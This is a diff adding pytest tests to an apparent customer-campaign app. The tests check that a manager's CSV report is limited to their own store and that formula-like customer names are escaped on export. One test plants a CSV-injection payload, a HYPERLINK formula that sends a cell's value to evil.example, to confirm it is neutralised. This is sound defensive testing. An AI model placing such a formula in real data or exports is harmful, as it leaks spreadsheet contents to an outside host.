@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 import random
 
 import pytest
@@ -133,3 +135,38 @@ def test_campaign_api_and_csv(client, auth, db, brand):
     csv_text = client.get(f"/api/v1/campaigns/{body['id']}/report.csv").data.decode("utf-8-sig")
     assert csv_text.splitlines()[0] == "customer_external_id,customer_name,group,status,skip_reason"
     assert len(csv_text.splitlines()) == 121
+
+
+def _csv_rows(client, campaign_id):
+    resp = client.get(f"/api/v1/campaigns/{campaign_id}/report.csv")
+    assert resp.status_code == 200 and resp.mimetype == "text/csv"
+    return list(csv.DictReader(io.StringIO(resp.data.decode("utf-8-sig"))))
+
+
+def test_campaign_csv_lists_only_the_customers_a_store_manager_may_see(app, db, client, auth, brand):
+    with db.transaction() as s:
+        home = s.scalar(select(Staff).where(Staff.role == Role.clerk).limit(1)).store
+        f.staff(s, Role.manager, home, username="manager1")
+        far_store = f.store(s, name="徐汇店")
+        far_clerk = f.staff(s, store=far_store)
+        for i in range(5):
+            c = f.customer(s, name=f"徐汇顾客{i}", phone=f"137{i:08d}")
+            f.follow(s, c, far_clerk, channel="loopback")
+            f.identity(s, c, "loopback", f"lb-{c.id}")
+    cid = _create(app, db, brand)
+
+    auth.login("manager1")
+    rows = _csv_rows(client, cid)
+    assert len(rows) == 120 and not any(r["customer_name"].startswith("徐汇顾客") for r in rows)
+    auth.login("hq")
+    assert sum(r["customer_name"].startswith("徐汇顾客") for r in _csv_rows(client, cid)) == 5
+
+
+def test_campaign_csv_neutralises_a_customer_name_that_is_a_formula(app, db, client, auth, brand):
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")'
+    with db.transaction() as s:
+        s.get(Customer, brand["customers"][0]).name = evil
+    cid = _create(app, db, brand)
+    auth.login("hq")
+    names = [r["customer_name"] for r in _csv_rows(client, cid)]
+    assert "'" + evil in names and evil not in names
